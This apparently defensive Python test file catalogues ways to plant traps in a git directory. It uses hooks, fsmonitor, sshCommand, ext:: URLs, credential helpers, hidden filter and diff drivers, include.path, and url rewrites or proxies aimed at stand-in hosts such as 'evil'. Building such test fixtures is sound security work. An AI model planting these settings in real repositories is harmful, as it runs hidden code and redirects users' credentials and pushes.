"""Tricks in a git directory: configuration, hooks, pointers and state that a plain git would obey.

Each script runs at the top of a checkout, and as well in a repository of somebody.
"""

from tests.workspace.museum.exhibit import Room, Trap

GIT_DIR = Room()
CLIENT_HOOKS = (
    "applypatch-msg commit-msg fsmonitor-watchman post-applypatch post-checkout post-commit post-index-change "
    "post-merge post-rewrite pre-applypatch pre-auto-gc pre-commit pre-merge-commit pre-push pre-rebase "
    "prepare-commit-msg reference-transaction sendemail-validate"
)
SERVER_HOOKS = "pre-receive update post-receive post-update push-to-checkout"


def config(*pairs: tuple[str, str]) -> str:
    """Return the lines that plant settings."""
    return "\n".join(f"git config --add '{key}' '{value}'" for key, value in pairs)


def hooks(folder: str, names: str, trap: Trap) -> str:
    """Return the lines that plant hooks in a folder."""
    return f"""mkdir -p {folder}
for hook in {names}; do
  printf '#!/bin/sh\\nexec {trap.program}\\n' > {folder}/$hook; chmod +x {folder}/$hook
done"""


def driven(*pairs: tuple[str, str]) -> str:
    """Return the lines that plant drivers, in attributes that nobody sees."""
    return config(*pairs) + "\nmkdir -p .git/info; echo '* filter=evil diff=evil merge=evil' > .git/info/attributes"


@GIT_DIR.harmless
def hooks_of_clients(trap: Trap) -> str:
    """Every hook that a client runs."""
    return hooks(".git/hooks", CLIENT_HOOKS, trap)


@GIT_DIR.harmless
def hooks_of_servers(trap: Trap) -> str:
    """Every hook that a server runs: a local repository is one when it is pushed to."""
    return hooks(".git/hooks", SERVER_HOOKS, trap)


@GIT_DIR.publishes("tools/pre-commit", "tools/pre-push", "tools/reference-transaction")
def hooks_path(trap: Trap) -> str:
    """core.hooksPath: hooks that lie in the work tree."""
    return (
        hooks("tools", "pre-commit pre-push reference-transaction", trap) + "\n" + config(("core.hooksPath", "tools"))
    )


@GIT_DIR.harmless
def fsmonitor(trap: Trap) -> str:
    """core.fsmonitor: a program that every look at the work tree starts."""
    return config(("core.fsmonitor", trap.program))


@GIT_DIR.harmless
def ssh_command(trap: Trap) -> str:
    """core.sshCommand, with every address rewritten to SSH."""
    return config(("core.sshCommand", trap.program), ("ssh.variant", "simple"), ("url.ssh://evil/.insteadOf", "http"))


@GIT_DIR.harmless
def git_proxy(trap: Trap) -> str:
    """core.gitProxy, with every address rewritten to git://."""
    return config(("core.gitProxy", trap.program), ("url.git://evil/.insteadOf", "http"))


@GIT_DIR.harmless
def remote_helper(trap: Trap) -> str:
    """The ext:: protocol, allowed, with every address rewritten to it."""
    return config(("protocol.ext.allow", "always"), (f"url.ext::{trap.program} %S .insteadOf", "http"))


@GIT_DIR.harmless
def pagers_and_editors(trap: Trap) -> str:
    """core.pager, core.editor, sequence.editor and a pager of each command."""
    keys = ("core.pager", "core.editor", "sequence.editor", "pager.status", "pager.diff", "pager.log")
    return config(*((key, trap.program) for key in keys))


@GIT_DIR.harmless
def ask_pass(trap: Trap) -> str:
    """core.askPass: a program that is asked for the password."""
    return config(("core.askPass", trap.program))


@GIT_DIR.harmless
def credential_helper(trap: Trap) -> str:
    """credential.helper: a program that is asked for the password, and told it when it was right."""
    return config(("credential.helper", f"!{trap.program}"), ("credential.useHttpPath", "true"))


@GIT_DIR.harmless
def signing(trap: Trap) -> str:
    """gpg.program, and a signature asked of everything."""
    programs = [(key, trap.program) for key in ("gpg.program", "gpg.openpgp.program", "gpg.ssh.program")]
    wanted = [(key, "true") for key in ("commit.gpgSign", "tag.gpgSign")]
    return config(*programs, *wanted, ("push.gpgSign", "if-asked"), ("user.signingKey", "evil"))


@GIT_DIR.harmless
def filter_clean(trap: Trap) -> str:
    """filter.*.clean and smudge, in attributes that nobody sees."""
    return driven(("filter.evil.clean", trap.program), ("filter.evil.smudge", trap.program))


@GIT_DIR.harmless
def filter_process(trap: Trap) -> str:
    """filter.*.process, required."""
    return driven(("filter.evil.process", trap.program), ("filter.evil.required", "true"))


@GIT_DIR.harmless
def diff_drivers(trap: Trap) -> str:
    """diff.external, and a driver's command and textconv."""
    return driven(*((key, trap.program) for key in ("diff.external", "diff.evil.command", "diff.evil.textconv")))


@GIT_DIR.harmless
def merge_driver(trap: Trap) -> str:
    """merge.*.driver, the default of all files."""
    return driven(("merge.evil.driver", trap.program), ("merge.default", "evil"))


@GIT_DIR.harmless
def instead_of(trap: Trap) -> str:
    """url.*.insteadOf: every address becomes another one."""
    return config((f"url.{trap.address}/.insteadOf", "http://"), (f"url.{trap.address}/s/.insteadOf", "https://"))


@GIT_DIR.harmless
def push_instead_of(trap: Trap) -> str:
    """url.*.pushInsteadOf: what is pushed goes elsewhere, what is fetched does not."""
    return config((f"url.{trap.address}/.pushInsteadOf", "http://"))


@GIT_DIR.harmless
def push_url(trap: Trap) -> str:
    """remote.*.pushurl, and a default remote of that name."""
    evil = f"{trap.address}/x.git"
    return config(("remote.origin.url", evil), ("remote.origin.pushurl", evil), ("remote.pushDefault", "origin"))


@GIT_DIR.harmless
def remote_programs(trap: Trap) -> str:
    """remote.*.vcs, uploadpack and receivepack: a helper or program for one remote."""
    keys = ("remote.origin.uploadpack", "remote.origin.receivepack")
    return config(("remote.origin.vcs", "ext"), *((key, trap.program) for key in keys))


@GIT_DIR.harmless
def http_proxy(trap: Trap) -> str:
    """http.proxy: all traffic, the token with it, goes through a stranger."""
    return config(("http.proxy", trap.address), ("remote.origin.proxy", trap.address), ("http.sslVerify", "false"))


@GIT_DIR.harmless
def http_files(trap: Trap) -> str:
    """http.cookieFile and saveCookies, http.extraHeader: files written, headers added."""
    return config(("http.cookieFile", trap.program), ("http.saveCookies", "true"), ("http.extraHeader", "X-Evil: 1"))


@GIT_DIR.harmless
def alternates(trap: Trap) -> str:
    """objects/info/alternates that point at objects of the machine, and a command that lists their refs."""
    planted = "mkdir -p .git/objects/info; echo /var/lib/evil/objects >> .git/objects/info/alternates"
    return planted + "\n" + config(("core.alternateRefsCommand", trap.program))


@GIT_DIR.harmless
def http_alternates(trap: Trap) -> str:
    """objects/info/http-alternates: a dumb server's objects, found elsewhere."""
    return f"mkdir -p .git/objects/info; echo {trap.address}/objects > .git/objects/info/http-alternates"


@GIT_DIR.publishes("team.cfg")
def included(trap: Trap) -> str:
    """include.path: configuration that lies in the work tree."""
    return f"printf '[core]\\n\\tfsmonitor = {trap.program}\\n' > team.cfg\n" + config(("include.path", "../team.cfg"))


@GIT_DIR.publishes("team.cfg")
def included_if(trap: Trap) -> str:
    """includeIf: the same under a condition that always holds."""
    planted = f"printf '[core]\\n\\tfsmonitor = {trap.program}\\n' > team.cfg\n"
    return planted + config(("includeIf.gitdir:/**.path", "../team.cfg"))


@GIT_DIR.harmless
def work_tree_config(trap: Trap) -> str:
    """extensions.worktreeConfig: a second file of configuration."""
    planted = f"printf '[core]\\n\\tfsmonitor = {trap.program}\\n' > .git/config.worktree\n"
    return planted + config(("extensions.worktreeConfig", "true"))


@GIT_DIR.harmless
def aliases(trap: Trap) -> str:
    """alias.*: commands of the repository's own."""
    return config(*((f"alias.{name}", f"!{trap.program}") for name in ("st", "ci", "push", "export")))


@GIT_DIR.harmless
def pack_objects_hook(trap: Trap) -> str:
    """uploadpack.packObjectsHook: a program between upload-pack and what it packs."""
    return config(("uploadpack.packObjectsHook", trap.program))


@GIT_DIR.harmless
def submodule_update(trap: Trap) -> str:
    """submodule.*.update: a command instead of a checkout."""
    pairs = (("submodule.x.url", "ext::" + trap.program), ("submodule.x.update", f"!{trap.program}"))
    return config(*pairs, ("submodule.recurse", "true"), ("push.recurseSubmodules", "on-demand"))


@GIT_DIR.harmless
def lfs(trap: Trap) -> str:
    """LFS: a server elsewhere, and a transfer agent that is a program."""
    agent = ("lfs.customtransfer.evil.path", trap.program)
    return config(("lfs.url", trap.address), agent, ("lfs.standalonetransferagent", "evil"))


@GIT_DIR.harmless
def work_tree_elsewhere(trap: Trap) -> str:
    """core.worktree: what is added comes from another folder."""
    return config(("core.worktree", "/etc"))


@GIT_DIR.harmless
def excludes(trap: Trap) -> str:
    """core.excludesFile and info/exclude: what was done is hidden from git."""
    hide = "echo '*' > .git/info/all; mkdir -p .git/info; echo '*' > .git/info/exclude; echo '*' > .git/info/all\n"
    return hide + config(("core.excludesFile", ".git/info/all"))


@GIT_DIR.harmless
def trailers(trap: Trap) -> str:
    """trailer.*.command: a program that writes a line of each message."""
    return config(("trailer.evil.key", "Evil"), ("trailer.evil.cmd", trap.program), ("trailer.evil.ifmissing", "add"))
